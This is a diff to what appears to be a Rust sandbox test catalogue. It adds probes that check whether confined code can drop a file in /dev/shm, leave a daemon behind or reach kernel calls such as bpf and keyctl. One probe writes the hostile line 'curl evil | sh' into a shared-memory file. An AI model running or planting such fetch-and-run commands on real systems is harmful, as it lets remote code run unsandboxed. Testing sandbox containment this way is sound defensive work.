@@ -57,6 +57,8 @@ pub enum Target {
     GitConfig,
     GithubEnv,
     GithubPath,
+    /// A file in the host's `/dev/shm` (shared memory outlives processes).
+    DevShmDrop,
 }
 
 /// A host listener that must receive nothing.
@@ -113,6 +115,8 @@ pub enum Applies {
     Setuid,
     /// A private loopback exists: FULL, or any tier with `--net host`.
     Loopback,
+    /// The host has a `/dev/shm`.
+    DevShm,
 }
 
 /// One probe.
@@ -224,6 +228,14 @@ pub const CATALOGUE: &[Spec] = &[
         evidence: Evidence::Unchanged(&[Target::GithubEnv, Target::GithubPath]),
         applies: Applies::Always,
     },
+    Spec {
+        id: "dev-shm-drop",
+        kind: Kind::Attack,
+        technique: "leave a file in /dev/shm for a later, unsandboxed process",
+        job: Job::Sh("echo 'curl evil | sh' > {SHMFILE}"),
+        evidence: Evidence::Unchanged(&[Target::DevShmDrop]),
+        applies: Applies::DevShm,
+    },
     // ── credentials in environments ──
     Spec {
         id: "env-token",
@@ -290,10 +302,13 @@ pub const CATALOGUE: &[Spec] = &[
         technique: "leave a setsid/double-forked daemon behind",
         job: Job::Sh(concat!(
             "if command -v setsid >/dev/null 2>&1; then (setsid sleep {DAEMON} </dev/null >/dev/null 2>&1 &); ",
-            "else (sleep {DAEMON} </dev/null >/dev/null 2>&1 &); fi; sleep 0.1\n",
+            "else (sleep {DAEMON} </dev/null >/dev/null 2>&1 &); fi\n",
             // Say that the daemon runs, so a daemon that never started
             // cannot pass for one that was killed.
-            "for f in /proc/[0-9]*/cmdline; do tr '\\0' ' ' < \"$f\"; echo; done | grep -q '^sleep {DAEMON} *$' && echo DAEMON-RUNNING",
+            "n=0; while [ $n -lt 30 ]; do\n",
+            "  for f in /proc/[0-9]*/cmdline; do tr '\\0' ' ' < \"$f\"; echo; done | grep -q '^sleep {DAEMON} *$' && { echo DAEMON-RUNNING; break; }\n",
+            "  sleep 0.1; n=$((n+1))\n",
+            "done",
         )),
         evidence: Evidence::NoDaemonLeft,
         applies: Applies::Always,
@@ -359,6 +374,38 @@ pub const CATALOGUE: &[Spec] = &[
         kind: Kind::Attack,
         technique: "unshare(CLONE_NEWUSER), as `unshare -Ur` does",
         job: Job::Probe(&["unshare-user"]),
+        evidence: Evidence::KernelAnswer,
+        applies: Applies::Always,
+    },
+    Spec {
+        id: "mount",
+        kind: Kind::Attack,
+        technique: "mount(tmpfs) on a path that does not exist (ENOENT when it reaches the kernel)",
+        job: Job::Probe(&["mount-tmpfs"]),
+        evidence: Evidence::KernelAnswer,
+        applies: Applies::Always,
+    },
+    Spec {
+        id: "bpf",
+        kind: Kind::Attack,
+        technique: "bpf(BPF_OBJ_GET_INFO_BY_FD, -1) (EBADF when it reaches the kernel)",
+        job: Job::Probe(&["bpf"]),
+        evidence: Evidence::KernelAnswer,
+        applies: Applies::Always,
+    },
+    Spec {
+        id: "perf-event-open",
+        kind: Kind::Attack,
+        technique: "perf_event_open(NULL) (EFAULT when it reaches the kernel)",
+        job: Job::Probe(&["perf-event-open"]),
+        evidence: Evidence::KernelAnswer,
+        applies: Applies::Always,
+    },
+    Spec {
+        id: "keyctl",
+        kind: Kind::Attack,
+        technique: "keyctl(KEYCTL_GET_KEYRING_ID) on the session keyring",
+        job: Job::Probe(&["keyctl"]),
         evidence: Evidence::KernelAnswer,
         applies: Applies::Always,
     },
@@ -480,6 +527,7 @@ mod tests {
             "modify-git-config",
             "replace-git-dir",
             "write-github-env",
+            "dev-shm-drop",
             "env-token",
             "host-process-environ",
             "vetto-process-environ",
